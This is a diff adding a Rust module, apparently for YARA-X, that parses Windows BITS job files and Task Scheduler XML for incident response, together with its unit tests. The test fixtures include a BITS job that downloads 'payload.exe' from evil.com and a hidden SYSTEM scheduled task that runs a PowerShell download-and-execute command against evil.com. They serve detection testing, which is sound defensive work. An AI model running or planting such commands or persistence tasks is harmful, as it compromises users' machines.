@@ -0,0 +1,222 @@
+/*! YARA module for Windows artifacts that describe jobs executed by the
+system, which are commonly used for persistence and collected during
+incident response.
+
+The module finds Background Intelligent Transfer Service (BITS) jobs in
+BITS state files, and parses scheduled tasks in the XML format used by the
+Task Scheduler.
+*/
+
+use crate::modules::prelude::*;
+use crate::modules::protos::jobs::*;
+
+mod bits;
+mod task;
+
+#[module_main]
+fn main(ctx: &ScanContext) -> Jobs {
+    let data = ctx.scanned_data();
+    let mut jobs = Jobs::new();
+
+    let (bits_jobs, truncated) = bits::find(data);
+
+    jobs.set_is_bits(!bits_jobs.is_empty());
+    jobs.bits_jobs = bits_jobs;
+
+    if truncated {
+        jobs.set_bits_jobs_truncated(true);
+    }
+
+    let task = task::parse(data);
+
+    jobs.set_is_task(task.is_some());
+    jobs.task = task.into();
+
+    jobs
+}
+
+#[cfg(test)]
+mod tests {
+    /// Encodes a string with its length prefix.
+    fn string(s: &str) -> Vec<u8> {
+        if s.is_empty() {
+            return vec![0; 4];
+        }
+        let units: Vec<u16> = s.encode_utf16().chain([0]).collect();
+        let mut bytes = (units.len() as u32).to_le_bytes().to_vec();
+        bytes.extend(units.iter().flat_map(|c| c.to_le_bytes()));
+        bytes
+    }
+
+    fn job(name: &str, command: &str, url: &str, path: &str) -> Vec<u8> {
+        [
+            // Download job, normal priority, suspended.
+            &[0, 0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0][..],
+            b"\x0e\x5c\x2c\x0f\xa4\x91\x5b\x4c\x8a\x0c\x3e\x3e\x5d\x2d\x1f\x6a",
+            &string(name),
+            &string(""),
+            &string(command),
+            &string(""),
+            &string("S-1-5-18"),
+            &[0, 0, 0, 0, 1, 0, 0, 0],
+            &string(path),
+            &string(url),
+            &string("C:\\Windows\\Temp\\BIT1.tmp"),
+            &[0xff; 12],
+        ]
+        .concat()
+    }
+
+    #[test]
+    fn end2end() {
+        let data = [
+            &b"\x13\xf7\x2b\xc8 header"[..],
+            &job(
+                "updater",
+                "C:\\Windows\\System32\\cmd.exe",
+                "http://evil.com/payload.exe",
+                "C:\\Users\\Public\\payload.exe",
+            ),
+            &job("other", "", "https://example.com/a.zip", "C:\\a.zip"),
+        ]
+        .concat();
+
+        let mut compiler = crate::compiler::Compiler::new();
+
+        compiler
+            .add_source(
+                r#"import "jobs"
+                rule bits_jobs {
+                  condition:
+                    jobs.is_bits and
+                    jobs.bits_jobs[0].offset == 11 and
+                    jobs.bits_jobs[0].id == "0f2c5c0e-91a4-4c5b-8a0c-3e3e5d2d1f6a" and
+                    jobs.bits_jobs[0].name == "updater" and
+                    jobs.bits_jobs[0].type == jobs.BitsJobType.DOWNLOAD and
+                    jobs.bits_jobs[0].priority == 2 and
+                    jobs.bits_jobs[0].state == jobs.BitsJobState.SUSPENDED and
+                    jobs.bits_jobs[0].owner == "S-1-5-18" and
+                    not defined jobs.bits_jobs[0].arguments and
+                    jobs.bits_jobs[1].name == "other" and
+                    not defined jobs.bits_jobs[1].command
+                }
+                rule command {
+                  condition:
+                    for any job in jobs.bits_jobs : (
+                      job.command endswith "cmd.exe"
+                    )
+                }
+                rule files {
+                  condition:
+                    jobs.bits_jobs[0].urls[0] == "http://evil.com/payload.exe" and
+                    jobs.bits_jobs[0].files[0] == "C:\\Users\\Public\\payload.exe" and
+                    jobs.bits_jobs[0].files[1] == "C:\\Windows\\Temp\\BIT1.tmp" and
+                    jobs.bits_jobs[1].urls[0] == "https://example.com/a.zip"
+                }
+                rule not_bits_nor_task {
+                  condition:
+                    not jobs.is_bits and not jobs.is_task
+                }"#,
+            )
+            .unwrap();
+
+        let rules = compiler.build();
+        let mut scanner = crate::scanner::Scanner::new(&rules).unwrap();
+
+        let mut matching_rules = |data: &[u8]| {
+            let results = scanner.scan(data).unwrap();
+            results
+                .matching_rules()
+                .map(|rule| rule.name().to_string())
+                .collect::<Vec<_>>()
+        };
+
+        assert_eq!(matching_rules(&data), ["bits_jobs", "command", "files"]);
+        assert_eq!(
+            matching_rules(b"S\x00-\x001\x00-\x00"),
+            ["not_bits_nor_task"]
+        );
+    }
+
+    #[test]
+    fn task() {
+        let xml = r#"<?xml version="1.0" encoding="UTF-16"?>
+<!-- Exported task -->
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Author>CORP\admin</Author>
+    <URI>\Microsoft\Windows\Updater</URI>
+  </RegistrationInfo>
+  <Triggers>
+    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>
+    <CalendarTrigger><StartBoundary>2024-01-01T00:00:00</StartBoundary></CalendarTrigger>
+  </Triggers>
+  <Principals>
+    <Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
+  </Principals>
+  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
+  <Actions Context="Author">
+    <Exec>
+      <Command>powershell.exe</Command>
+      <Arguments>-w hidden -c "iex (iwr 'http://evil.com/a?x=1&amp;y=2')"</Arguments>
+    </Exec>
+    <ComHandler><ClassId>{0f87369f-a4e5-4cfc-bd3e-73e6154572dd}</ClassId><Data/></ComHandler>
+  </Actions>
+</Task>"#;
+
+        let utf16: Vec<u8> = [0xff, 0xfe]
+            .into_iter()
+            .chain(xml.encode_utf16().flat_map(|c| c.to_le_bytes()))
+            .collect();
+
+        let mut compiler = crate::compiler::Compiler::new();
+
+        compiler
+            .add_source(
+                r#"import "jobs"
+                rule task {
+                  condition:
+                    jobs.is_task and
+                    not jobs.is_bits and
+                    jobs.task.author == "CORP\\admin" and
+                    jobs.task.uri == "\\Microsoft\\Windows\\Updater" and
+                    jobs.task.user_id == "S-1-5-18" and
+                    jobs.task.run_level == "HighestAvailable" and
+                    jobs.task.hidden and
+                    jobs.task.enabled and
+                    jobs.task.triggers[0] == "LogonTrigger" and
+                    jobs.task.triggers[1] == "CalendarTrigger" and
+                    not defined jobs.task.description
+                }
+                rule actions {
+                  condition:
+                    jobs.task.actions[0].type == jobs.ActionType.EXEC and
+                    jobs.task.actions[0].command == "powershell.exe" and
+                    jobs.task.actions[0].arguments contains "a?x=1&y=2')" and
+                    jobs.task.actions[1].type == jobs.ActionType.COM_HANDLER and
+                    jobs.task.actions[1].class_id == "{0f87369f-a4e5-4cfc-bd3e-73e6154572dd}" and
+                    jobs.task.actions[1].data == ""
+                }
+                rule not_task {
+                  condition:
+                    not jobs.is_task
+                }"#,
+            )
+            .unwrap();
+
+        let rules = compiler.build();
+        let mut scanner = crate::scanner::Scanner::new(&rules).unwrap();
+
+        let mut matching_rules = |data: &[u8]| {
+            let results = scanner.scan(data).unwrap();
+            results
+                .matching_rules()
+                .map(|rule| rule.name().to_string())
+                .collect::<Vec<_>>()
+        };
+
+        assert_eq!(matching_rules(&utf16), ["task", "actions"]);
+        assert_eq!(matching_rules(xml.as_bytes()), ["task", "actions"]);
+        assert_eq!(matching_rules(b"<html><task></task>"), ["not_task"]);
+    }
+}